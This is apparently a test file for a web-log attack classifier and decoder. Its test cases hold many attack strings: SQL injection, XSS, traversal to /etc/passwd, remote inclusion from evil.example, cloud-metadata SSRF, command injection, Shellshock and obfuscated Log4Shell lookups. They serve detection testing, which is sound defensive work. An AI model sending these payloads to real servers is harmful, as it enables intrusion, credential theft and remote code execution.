import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { classifyRequest, findAttacks, findAttacksDirect } from './classify.js';
import { decodeLayers } from './decode.js';
import { tagAttack } from './enricher.js';

const cls = (url: string, userAgent?: string, referrer?: string) => classifyRequest({ url, userAgent, referrer });

describe('classifyRequest', () => {
  it.each([
    ['/item?id=1%27%20or%20%271%27%3D%271', 'sqli'],
    ['/item?id=1/**/UNION/**/SELECT/**/null,null--', 'sqli'],
    ['/item?id=-2761+or+1144%3D7657--+x', 'sqli'],
    ['/q?u_id[$ne]=2', 'sqli'],
    ['/s?q=%253Cscript%253Ealert(1)%253C%252Fscript%253E', 'xss'],
    ['/s?q=%EF%BC%9Cscript%EF%BC%9Ealert(1)', 'xss'],
    ['/s?q=&lt;img src=x onerror=alert(1)&gt;', 'xss'],
    ['/dl?f=..%2f..%2f..%2fapp%2fconfig.js', 'traversal'],
    ['/dl?f=%c0%ae%c0%ae%c0%afetc%c0%afpasswd', 'lfi'],
    ['/.env', 'lfi'],
    ['/page?inc=http://evil.example/shell.txt?', 'rfi'],
    ['/fetch?url=http://169.254.169.254/latest/meta-data/', 'ssrf'],
    ['/ping?host=127.0.0.1%3Bc%27%27at%20/e%24%40tc/pa%5Csswd', 'rce'],
    ['/ping?host=x|powershell%20-enc%20AAAA', 'rce'],
    ['/?x=%24%7Bjndi%3Aldap%3A%2F%2Fe.example%2Fa%7D', 'log4shell'],
    ['/?x=%24%7B%24%7Blower%3Aj%7D%24%7B%3A%3A-n%7Ddi%3Aldap%3A%2F%2Fe%7D', 'log4shell'],
  ])('%s → %s', (url, want) => {
    expect(cls(url)?.cls).toBe(want);
  });

  it('reads the User-Agent and the Referer, and names scanners', () => {
    expect(cls('/', '() { :; }; /bin/bash -c id')?.cls).toBe('rce');
    expect(cls('/', 'Mozilla/5.0', "https://x.example/?q=1' union select password from users--")?.part).toBe(
      'referrer',
    );
    expect(cls('/', 'sqlmap/1.8 (https://sqlmap.org)')?.cls).toBe('scanner');
  });

  it('quotes the decoded fragment that matched', () => {
    expect(cls('/item?id=1%20UNION%20SELECT%20null')?.fragment).toBe('union select');
  });

  it('leaves ordinary requests alone', () => {
    const ua =
      'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/125.0 Safari/537.36';
    for (const url of [
      '/wp-content/themes/shop/style.css?ver=6.5.2',
      '/search?q=select+a+union+rep',
      '/search?q=black+or+white',
      '/api/users?fields={id,name}&sort=-created',
      '/blog/2024/05/why-we-moved-to-postgres/',
      '/search?q=c%2B%2B+templates',
      '/login?next=%2Faccount%2Forders',
      '/.well-known/acme-challenge/abc',
    ])
      expect(cls(url, ua, 'https://www.google.com/'), url).toBeUndefined();
  });
});

describe('decodeLayers', () => {
  it('removes nested encodings, entities, escapes and full-width forms', () => {
    expect(decodeLayers('%253Cscript%253E')).toBe('<script>');
    expect(decodeLayers('&#x3C;svg&gt;')).toBe('<svg>');
    expect(decodeLayers('\\x3cimg')).toBe('<img');
    expect(decodeLayers('%u003cSCRIPT')).toBe('<script');
    expect(decodeLayers('＜ＳＣＲＩＰＴ＞')).toBe('<script>');
    // Malformed escapes never throw: invalid UTF-8 becomes U+FFFD, a lone `%` stays.
    expect(decodeLayers('%E0%A4%A')).toBe('\ufffd%a');
  });
});

describe('tagAttack', () => {
  it('tags access events only', () => {
    const ev = {
      '@timestamp': '',
      message: '',
      'event.kind': 'event' as const,
      'event.dataset': 'nginx.access',
      'url.original': '/?id=1%27%20or%201%3D1--',
    };
    expect(tagAttack(ev)).toBe(true);
    expect(ev).toMatchObject({ 'attack.class': 'sqli', 'attack.classes': ['sqli'] });
    expect(tagAttack({ ...ev, 'event.dataset': 'sshd', 'attack.class': undefined })).toBe(false);
  });
});

describe('findAttacks memo', () => {
  // Attack fragments and clean values, few enough that generated requests repeat them.
  const piece = fc.constantFrom(
    '/',
    '/index.html',
    '/static/app.js',
    '/item?id=1%27%20or%20%271%27%3D%271',
    '/s?q=%3Cscript%3Ealert(1)%3C/script%3E',
    '/dl?f=../../etc/passwd',
    '/?x=%24%7Bjndi:ldap://e.example/a%7D',
    '/ping?host=127.0.0.1;cat /etc/passwd',
    '/a?b=c&d=http://169.254.169.254/',
    '/.env',
    '-',
    '',
  );
  const agent = fc.constantFrom(
    undefined,
    '',
    '-',
    'Mozilla/5.0 (X11; Linux x86_64) Firefox/120.0',
    'sqlmap/1.8 (https://sqlmap.org)',
    'Nikto',
    '() { :; }; /bin/bash -c id',
  );
  const referrer = fc.option(
    piece.map((p) => (p === '' || p === '-' ? p : `https://site.example${p}`)),
    { nil: undefined },
  );

  it('finds exactly what a fresh scan of every unit finds, in the same order (property)', () => {
    fc.assert(
      fc.property(
        fc.array(fc.record({ url: fc.option(piece, { nil: undefined }), userAgent: agent, referrer }), {
          maxLength: 40,
        }),
        (reqs) => {
          for (const req of reqs) expect(findAttacks(req)).toEqual(findAttacksDirect(req));
        },
      ),
    );
  });
});
